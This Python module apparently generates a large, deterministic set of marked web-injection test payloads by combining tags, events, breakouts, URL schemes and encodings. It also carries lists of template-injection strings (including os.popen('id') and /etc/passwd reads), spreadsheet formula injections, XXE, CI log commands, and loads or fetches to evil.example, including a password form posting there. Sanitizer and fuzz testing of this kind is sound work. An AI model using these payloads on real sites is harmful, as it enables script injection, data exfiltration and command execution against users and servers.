"""Hostile texts from a grammar: tag x event x scheme x encoding x breakout x context.

The same ones each time; none is copied from anybody's list.

Every text has a mark of its own (`zq123qz`), by which it is found again on pages and in messages. What it
would do, if it came alive, is one of three things that a browser notices: call `ran("zq123qz")`, ask
(`alert`), or send for something at evil.example.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, product

EVIL = "evil.example"


@dataclass(frozen=True)
class Payload:
    """A hostile text, the family it is of, and its mark."""

    mark: str
    family: str
    text: str


TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "input",
    "details",
    "iframe",
    "object",
    "embed",
    "math",
    "a",
    "button",
    "select",
    "textarea",
    "form",
    "div",
    "p",
    "style",
    "link",
    "meta",
    "base",
    "template",
    "marquee",
    "table",
    "td",
    "title",
    "x-canary",
    "dialog",
    "frameset",
    "portal",
    "source",
    "track",
    "svg><animate",
    "svg><set",
    "svg><image",
    "math><mtext><img",
    "noscript><img",
    "select><option><img",
    "svg><foreignObject><img",
    "svg><use",
    "picture><img",
)
EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "onpointerenter",
    "ontoggle",
    "onanimationstart",
    "ontransitionend",
    "onwheel",
    "onbegin",
    "oninput",
    "onblur",
    "onscroll",
    "onbeforetoggle",
    "onpageshow",
    "onhashchange",
    "oncontentvisibilityautostatechange",
    "onkeydown",
    "onauxclick",
    "onpaste",
    "onscrollend",
    "onplay",
    "onresize",
)
# What makes an element act by itself, where something does.
BY_ITSELF = {
    "img": "src=x",
    "video": "src=x",
    "audio": "src=x",
    "input": "autofocus",
    "details": "open",
    "iframe": "src=about:blank",
    "object": "data=x",
    "embed": "src=x",
    "a": "href=x tabindex=0",
    "button": "autofocus",
    "select": "autofocus",
    "textarea": "autofocus",
    "div": "tabindex=0 style=animation:x",
    "p": "tabindex=0 contenteditable",
    "link": "rel=stylesheet href=x",
    "body": "",
    "svg": "",
    "source": "src=x",
    "svg><animate": "attributeName=x dur=1s",
    "svg><set": "attributeName=x",
    "svg><image": "href=x",
    "svg><use": "href=x",
    "dialog": "open",
}
GAPS = (" ", "/", "\t", "  ", "/ /", " x ", " x=y ", '/x=">"/')
QUOTES = (
    "{0}={1}",
    '{0}="{1}"',
    "{0}='{1}'",
    "{0}=`{1}`",
    "{0} = {1}",
    '{0}="{1}',
    "{0}={1} x",
    '{0}="{1}"{0}="{1}"',
)
ENDS = (">", "/>", ">x</{0}>", " ", "><", "//", "<!--", "</")
# What a text might have to get out of first.
BREAKOUTS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "]]>",
    "--!>",
    "</a></li></ul></main></div>",
    "\"'`>",
    '\\">',
    "&quot;&gt;",
    "}}",
    "|",
    "</template>",
    "<!--<![CDATA[",
    "`\n",
    '">\n\n',
    "</p>",
    "<p>",
    "<!--",
    "*/",
    "`",
    "</noscript>",
    "</svg>",
    "\\",
    "&#34;&#62;",
    "</head><body>",
    "</xmp>",
    "</math>",
    "<plaintext>",
    "%22%3E",
    "\\u0022\\u003e",
    "= ",
)
SCHEMES = (
    "javascript:",
    "vbscript:",
    "data:text/html,",
    "data:image/svg+xml,",
    "data:text/html;base64,",
    "blob:",
    "file:///",
    "feed:javascript:",
    "view-source:",
    "jar:",
    "livescript:",
    "mocha:",
    "about:",
    "filesystem:",
    "intent:",
    "ms-word:ofe|u|",
    "javascript://x%0a",
    "//",
    "\\\\",
    "/\\",
    "///",
    "http:",
    "https:/\\",
    "ws://",
    "javascript:javascript:",
    "wyciwyg://",
)
SPELLINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda s: s,
    "capitals": lambda s: s.upper(),
    "mixed": lambda s: "".join(c.upper() if n % 2 else c for n, c in enumerate(s)),
    "tab": lambda s: s[:4] + "\t" + s[4:],
    "line": lambda s: s[:4] + "\n" + s[4:],
    "entity": lambda s: f"&#{ord(s[0])};{s[1:]}",
    "hex entity": lambda s: f"&#x{ord(s[0]):X};{s[1:]}",
    "long entity": lambda s: f"&#{ord(s[0]):07d}{s[1:]}",
    "colon": lambda s: s.replace(":", "&colon;"),
    "tab entity": lambda s: s[:4] + "&Tab;" + s[4:],
    "line entity": lambda s: s[:4] + "&NewLine;" + s[4:],
    "percent": lambda s: f"%{ord(s[0]):02x}{s[1:]}",
    "percent colon": lambda s: s.replace(":", "%3A"),
    "space": lambda s: " " + s,
    "control": lambda s: "\x01" + s,
    "zero width": lambda s: s[:3] + "\u200b" + s[3:],
    "wide": lambda s: chr(ord(s[0]) + 0xFEE0) + s[1:] if "!" <= s[0] <= "~" else s,
    "backslash": lambda s: s.replace(":", "\\:"),
    "quoted": lambda s: f"'{s}",
}
WRAPS = (
    "[{m}]({u})",
    "[{m}](<{u}>)",
    "[{m}][{m}]\n\n[{m}]: {u}",
    "<{u}>",
    "![{m}]({u})",
    "<a href={u}>{m}</a>",
    '<a href="{u}">{m}</a>',
    '[{m}]({u} "{m}")',
    "[![{m}]({u})]({u})",
    "[{m}]: <{u}>\n\n*[{m}]*",
    "<iframe src='{u}'>{m}",
    "<object data={u}>{m}",
    "<form action={u}><button>{m}",
    "<svg><a xlink:href={u}><text>{m}",
    "<math href={u}>{m}",
    "<embed src={u}>{m}",
    "<base href={u}>{m}",
    "[{m}\n]( {u} )",
    "<meta http-equiv=refresh content='0;url={u}'>{m}",
    "{u} {m}",
    "- [{m}]({u})",
    "> [{m}]({u})",
    "**[{m}]({u})**",
    "<link rel=import href={u}>{m}",
    "<img src={u} alt={m}>",
    "`[{m}]({u})`",
)
# What a program might take a text for: a template, a formula, a command, another file's syntax. 1234 * 5678 =
# 7006652.
PRODUCT = "7006652"
TEMPLATES = (
    "{{1234*5678}}",
    "${1234*5678}",
    "#{1234*5678}",
    "<%= 1234*5678 %>",
    "{% print(1234*5678) %}",
    "{{'7'*7}}{{1234*5678}}",
    "${{1234*5678}}",
    "{{=1234*5678}}",
    "@(1234*5678)",
    "[[1234*5678]]",
    "{1234*5678}",
    "*{1234*5678}",
    "~{1234*5678}",
    "{{config}}{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__}}",
    "{{lipsum.__globals__.os.popen('id').read()}}",
    "{%include '/etc/passwd'%}",
    "--8<-- '/etc/passwd'",
    "{!/etc/passwd!}",
    "<!--#include file=/etc/passwd-->",
    "::: os.system",
    "!!python/object/apply:os.system [id]",
    "$(id)",
    "`id`",
    "<?php echo 1234*5678; ?>",
    "%{1234*5678}",
    "\\input{/etc/passwd}",
    "{: onclick=ran() }",
)
FORMULAS = (
    '=HYPERLINK("//evil.example/{m}","{m}")',
    "+cmd|'/c calc'!A{m}",
    "-2+3+{m}",
    "@SUM({m})",
    "=cmd|' /C calc'!{m}",
    "\t={m}",
    " ={m}",
    "\uff1d{m}",
    "\uff0b{m}",
    "=1+1;{m}",
    "'={m}",
    '"={m}',
    ";={m}",
    "|={m}",
    '=IMPORTXML("//evil.example/{m}","//a")',
    '=WEBSERVICE("//evil.example/{m}")',
    "%0A={m}",
    "\n={m}",
    "\r={m}",
    "-{m}",
    "+{m}",
    "@{m}",
    "={m}",
    "\u2212{m}",
    "\uff20{m}",
    "\uff0d{m}",
    "0={m}",
    "=\u00a0{m}",
)
OTHERS = (
    "::error file=x::{m}",
    "::set-output name=x::{m}",
    "::add-mask::{m}",
    "##[error]{m}",
    "##vso[task.setvariable]{m}",
    "\x1b[31m{m}",
    "\x1b]8;;//evil.example\x07{m}",
    "{m}\r\nATTACH:javascript:ran()",
    "{m}\nEND:VEVENT\nBEGIN:VEVENT",
    "{m};X=1:y",
    "{m}\\nATTACH:x",
    "{m}]]><script>ran('{m}')</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>{m}&e;",
    "<?xml-stylesheet href='//evil.example/{m}'?>",
    "&{m};",
    '{m}","x":"',
    "{m}\u2028ran('{m}')",
    "__proto__ {m}",
    "constructor {m}",
    "{m}\"}};ran('{m}');//",
    "{m}</script><script>ran('{m}')</script>",
    "-->{m}<!--",
    "{m}\n---\ntitle: x\n---",
    "{m}: {{a: b}}",
    "*{m}",
    "&{m} a",
    "!{m} a",
    "#{m}",
    "%{m}",
    "? {m}",
    "- {m}",
    "<a id=__search name=find_box>{m}</a>",
    "<form name=body>{m}</form>",
    "## {m} {{#find_box}}",
    "[{m}]: #{{.x onclick=ran()}}",
    "[TOC] {m}",
    "[^{m}]\n\n[^{m}]: <img src=x onerror=ran('{m}')>",
    "*[{m}]: <b onclick=ran()>",
    "~~~ {{onclick=ran('{m}')}}\n{m}\n~~~",
    "```html onload=ran()\n{m}\n```",
    "$$\\href{{javascript:ran()}}{{{m}}}$$",
    "[[{m}]]",
    ":{m}:{{onclick=ran()}}",
    "==<b onclick=ran()>{m}==",
    "\x02wzxhzdk:0\x03{m}",
    "\x02klzzwxh:0000\x03{m}",
    "{m}\u202egnp.exe",
    "{m}\u2066\u2069",
    "{m}\u200d\u200b",
    "{m}\ufeff",
    "{m}\U000e0041",
    "{m}\ud7ff",
    "{m}\x00",
    "{m}\x7f",
    "{m}\x85",
    "\u0430\u0440\u0440\u04cf\u0435 {m}",
)
LOADS = (
    "<img src=//evil.example/{m}>",
    "<img srcset=//evil.example/{m}>",
    "![{m}](https://evil.example/{m}.png)",
    "![{m}][p]\n\n[p]: //evil.example/{m}",
    "<link rel=stylesheet href=//evil.example/{m}>",
    "<style>@import '//evil.example/{m}'</style>",
    '<p style="background:url(//evil.example/{m})">',
    "<video poster=//evil.example/{m}>",
    "<object data=//evil.example/{m}>",
    "<iframe src=//evil.example/{m}>",
    "<body background=//evil.example/{m}>",
    "<input type=image src=//evil.example/{m}>",
    "<svg><image href=//evil.example/{m}>",
    "<svg><use href=//evil.example/{m}#x>",
    "<link rel=prefetch href=//evil.example/{m}>",
    "<link rel=dns-prefetch href=//{m}.evil.example>",
    "<meta http-equiv=refresh content='0;//evil.example/{m}'>",
    "<script src=//evil.example/{m}></script>",
    "<script type=module>import '//evil.example/{m}'</script>",
    "<audio src=//evil.example/{m}>",
    "<embed src=//evil.example/{m}>",
    "<table background=//evil.example/{m}>",
    "<base href=//evil.example/>{m}",
    "<form action=//evil.example/{m}><input name=password autofocus>",
    "<a ping=//evil.example/{m} href=x>{m}</a>",
    "<track src=//evil.example/{m}>",
    "<source srcset=//evil.example/{m}>",
    "<html manifest=//evil.example/{m}>",
    "<svg><style>@import '//evil.example/{m}'",
    "<svg><filter><feImage href=//evil.example/{m}>",
    "<math><mglyph src=//evil.example/{m}>",
    "<div style='list-style:url(//evil.example/{m})'>",
    "<blockquote cite=//evil.example/{m}>{m}",
)
DOINGS = (
    "ran('{m}')",
    "alert('{m}')",
    "top.ran('{m}')",
    "ran`{m}`",
    "window['ran']('{m}')",
    "(ran)('{m}')",
    "self[`ran`]('{m}')",
    "ran&lpar;'{m}'&rpar;",
    "&#114;an('{m}')",
    "\\u0072an('{m}')",
    "setTimeout(ran,0,'{m}')",
    "new Image().src='//evil.example/{m}'",
    "location='javascript:ran(1)//{m}'",
    "fetch('//evil.example/{m}')",
    "[1].map(ran)//{m}",
    "document.body.append('{m}'),ran('{m}')",
)
SCRIPTS = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<script/x>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script\n>{0}</script\n>",
    "<svg><script>{0}</script>",
    "<script>{0}",
    "<script type=module>{0}</script>",
    "<script x='>'>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "&amp;lt;script&amp;gt;{0}",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "<\u200bscript>{0}</script>",
    "+ADw-script+AD4-{0}",
    "<script>//\n{0}</script>",
    "<!--><script>{0}</script>",
    "<math><mi><![CDATA[</mi><script>{0}</script>]]>",
    '<noscript><p title="</noscript><script>{0}</script>">',
    "<style><!--</style><script>{0}</script>",
    '<xmp><p title="</xmp><script>{0}</script>">',
    "<template shadowrootmode=open><script>{0}</script></template>",
    '<iframe srcdoc="<script>{0}</script>">',
    "<iframe srcdoc='&lt;script&gt;{0}&lt;/script&gt;'>",
    "<svg><desc><script>{0}</script>",
    "<?xml version=1?><script>{0}</script>",
)


def _marked(family: str, numbers: Iterator[int], make: Callable[[str], str]) -> Payload:
    mark = f"zq{next(numbers)}qz"
    return Payload(mark, family, make(mark))


def payloads() -> list[Payload]:
    """All of them, in one order for ever."""
    numbers, made = count(1), []

    def add(family: str, make: Callable[[str], str]) -> None:
        made.append(_marked(family, numbers, make))

    # Every tag with every event; how it is written goes round, at steps that have no common measure, so that
    # every two ways meet.
    for n, (tag, event) in enumerate(product(TAGS, EVENTS)):
        first = tag.split("><")[0]
        gap, quote, end, before, doing = (
            axis[n * step % len(axis)]
            for axis, step in ((GAPS, 3), (QUOTES, 5), (ENDS, 7), (BREAKOUTS, 11), (DOINGS, 5))
        )
        add(
            "element",
            lambda m: (
                f"{before}<{tag}{gap}{BY_ITSELF.get(tag, '')}"
                f" {quote.format(event, doing.format(m=m))}{end.format(first)} {m}"
            ),
        )
    # Inside an attribute: no element is needed.
    for n, (event, quote) in enumerate(
        product(
            EVENTS,
            (
                '" {0} "',
                "' {0} '",
                "` {0} `",
                " {0} ",
                '"/{0}/"',
                '"\t{0}\t"',
                '" autofocus tabindex=1 {0} x="',
                "x' autofocus {0} y='",
            ),
        )
    ):
        doing = DOINGS[n * 7 % len(DOINGS)]
        add("attribute", lambda m: f"{m}{quote.format(event + '=' + doing.format(m=m))}")
    for n, (script, before) in enumerate(product(SCRIPTS, BREAKOUTS)):
        doing = DOINGS[n * 3 % len(DOINGS)]
        add("script", lambda m: f"{m}{before}{script.format(doing.format(m=m))}")
    for n, (scheme, spelling, wrap) in enumerate(product(SCHEMES, SPELLINGS, range(5))):
        doing = (
            "ran('{m}')",
            "<script>ran('{m}')</script>",
            "alert('{m}')",
            "evil.example/{m}",
            "PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=#{m}",
            "%61lert('{m}')",
        )[n % 6]
        frame = WRAPS[(n * 7 + wrap * 11) % len(WRAPS)]
        add("address", lambda m: frame.format(m=m, u=SPELLINGS[spelling](scheme) + doing.format(m=m)))
    for family, texts in (("template", TEMPLATES), ("formula", FORMULAS), ("other", OTHERS), ("load", LOADS)):
        for text, before in product(texts, ("", '">', "</title>", "x ")):
            add(
                family, lambda m: f"{before}{text} {m}" if family == "template" else before + text.format(m=m)
            )
    return made


def some(every: int) -> list[Payload]:
    """A part of them, evenly over every family."""
    by_family: dict[str, list[Payload]] = {}
    for one in payloads():
        by_family.setdefault(one.family, []).append(one)
    return [one for group in by_family.values() for one in group[::every]]
